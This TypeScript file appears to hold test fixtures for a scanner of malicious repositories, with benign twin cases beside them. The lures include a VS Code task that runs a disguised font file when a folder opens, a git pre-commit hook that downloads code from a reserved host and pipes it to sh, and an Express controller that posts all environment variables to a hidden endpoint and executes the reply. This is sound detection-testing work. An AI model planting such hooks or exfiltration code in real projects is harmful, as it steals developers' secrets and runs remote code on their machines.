// Inert fixtures: shapes of documented lures, reserved hosts, payloads that do nothing.
import type { TechniqueFixture } from '../fixture.ts';
import { obfuscatedLine } from '../shapes.ts';

const fixtures: readonly TechniqueFixture[] = [
  {
    id: 'C09',
    title: 'folder-open task runs a font with node',
    lure: {
      files: {
        'package.json': '{"name":"site","scripts":{"dev":"vite"}}',
        '.vscode/tasks.json':
          '{\n  // editor tasks\n  "version": "2.0.0",\n  "tasks": [\n    {\n      "label": "eslint-check",\n      "type": "shell",\n      "command": "command -v node >/dev/null 2>&1 && node ./public/fonts/fa-solid-400.woff2 || where node",\n      "presentation": { "reveal": "never", "echo": false, "focus": false, "close": true },\n      "runOptions": { "runOn": "folderOpen" },\n    },\n  ],\n}\n',
        '.vscode/settings.json':
          '{ "task.allowAutomaticTasks": "on", "terminal.integrated.hideOnStartup": "always" }\n',
        'public/fonts/fa-solid-400.woff2': `${' '.repeat(400)}${obfuscatedLine(9_000, 3)}`,
      },
    },
    expect: {
      level: 'malicious',
      file: 'public/fonts/fa-solid-400.woff2',
      tradecraft: ['T05', 'T50'],
      via: ['.vscode/tasks.json', 'public/fonts/fa-solid-400.woff2'],
    },
    twin: {
      files: {
        'package.json': '{"name":"editor","scripts":{"watch":"gulp watch"}}',
        '.vscode/tasks.json':
          '{ "version": "2.0.0", "tasks": [ { "label": "npm: watch", "type": "npm", "script": "watch", "isBackground": true, "presentation": { "reveal": "never", "group": "watchers" }, "runOptions": { "runOn": "folderOpen" } } ] }',
        'gulpfile.js':
          "const gulp = require('gulp');\nexports.watch = () => gulp.watch('src/**/*.ts', gulp.series('compile'));\n",
        'public/fonts/icons.woff2': new Uint8Array([0x77, 0x4f, 0x46, 0x32, 0, 1, 0, 0, 0, 0, 12, 0]),
      },
      why: 'watchers that start when the folder is opened, as in large editors’ own repositories',
    },
  },
  {
    id: 'C10',
    title: 'archive with live git hooks that download',
    lure: {
      files: {
        'README.md': '# Challenge\n\nRun `git checkout dev`, then commit your work.\n',
        'package.json': '{"name":"challenge","scripts":{"start":"node index.js"}}',
        'index.js': "console.log('hello');\n",
        '.git/HEAD': 'ref: refs/heads/main\n',
        '.git/config': '[core]\n\trepositoryformatversion = 0\n',
        '.git/hooks/pre-commit':
          '#!/bin/sh\n# Called by "git commit" with no arguments.\ncase "$(uname -s)" in\n  Darwin) curl -s https://short.invalid/m -L | sh >/dev/null 2>&1 & ;;\n  Linux) wget -qO- https://short.invalid/l -L | sh >/dev/null 2>&1 & ;;\n  *) curl -s https://short.invalid/w -L | cmd >/dev/null 2>&1 & ;;\nesac\nexit 0\n',
      },
      modes: { '.git/hooks/pre-commit': 0o755 },
    },
    expect: {
      level: 'malicious',
      file: '.git/hooks/pre-commit',
      tradecraft: ['T08', 'T01'],
      indicators: ['short.invalid'],
    },
    twin: {
      files: {
        'package.json':
          '{"name":"challenge","scripts":{"prepare":"husky","lint":"eslint ."},"devDependencies":{"husky":"9","eslint":"9"}}',
        '.husky/pre-commit': 'npm run lint\n',
        '.git/HEAD': 'ref: refs/heads/main\n',
        '.git/config': '[core]\n\trepositoryformatversion = 0\n\thooksPath = .husky/_\n',
      },
      why: 'husky',
    },
  },
  {
    id: 'C19',
    title: 'prepare starts the back end in the background, whose middleware runs a decoded reply',
    lure: {
      files: {
        'package.json':
          '{"name":"gamify","scripts":{"prepare":"start /b node server || nohup node server &","start":"react-scripts start"},"dependencies":{"express":"4","axios":"1"}}',
        'server/index.js': "import('./loadEnv.js').then(() => import('./routes/index.js'));\n",
        'server/loadEnv.js': "import dotenv from 'dotenv';\ndotenv.config({ path: './server/config/.config.env' });\n",
        'server/config/.config.env': `AUTH_API=${Buffer.from('https://game-identity.invalid/api/identity/0f0f').toString('base64')}\n`,
        'server/routes/index.js':
          "import { Router } from 'express';\nimport auth from './api/auth.js';\nexport const router = Router();\nrouter.use('/auth', auth);\n",
        'server/routes/api/auth.js':
          "import { Router } from 'express';\nimport { validateApiKey } from '../../controllers/auth.js';\nconst verified = validateApiKey();\nconst auth = Router();\nauth.get('/', (req, res) => res.json({ verified: !!verified }));\nexport default auth;\n",
        'server/controllers/auth.js':
          "import axios from 'axios';\nimport { setApiKey, verify } from '../utils/keys.js';\nexport const validateApiKey = async () => {\n  verify(setApiKey(process.env.AUTH_API))\n    .then((response) => {\n      const executor = new Function('require', response.data);\n      executor(require);\n      console.log('API Key verified successfully.');\n      return true;\n    })\n    .catch((err) => { console.log('API Key verification failed:', err); return false; });\n};\n",
        'server/utils/keys.js':
          "import axios from 'axios';\nexport const setApiKey = (s) => atob(s);\nexport const verify = (api) => axios.post(api, { ...process.env }, { headers: { 'x-app-request': 'ip-check' } });\n",
      },
    },
    expect: {
      level: 'malicious',
      file: 'server/controllers/auth.js',
      tradecraft: ['T26', 'T14', 'T41', 'T11'],
      via: [
        'package.json',
        'server/index.js',
        'server/routes/index.js',
        'server/routes/api/auth.js',
        'server/controllers/auth.js',
      ],
      indicators: ['game-identity.invalid'],
    },
    twin: {
      files: {
        'package.json':
          '{"name":"gamify","scripts":{"prepare":"husky install && npm run build:types","start":"react-scripts start","server":"node server"},"dependencies":{"express":"4"}}',
        'server/index.js':
          "const express = require('express');\nconst app = express();\napp.use(require('./auth'));\napp.listen(3000);\n",
        'server/auth.js':
          "const jwt = require('jsonwebtoken');\nmodule.exports = (req, res, next) => { req.user = jwt.verify(req.headers.authorization, process.env.JWT_SECRET); next(); };\n",
      },
      why: 'an ordinary prepare script and an ordinary authentication middleware',
    },
  },
];
export default fixtures;
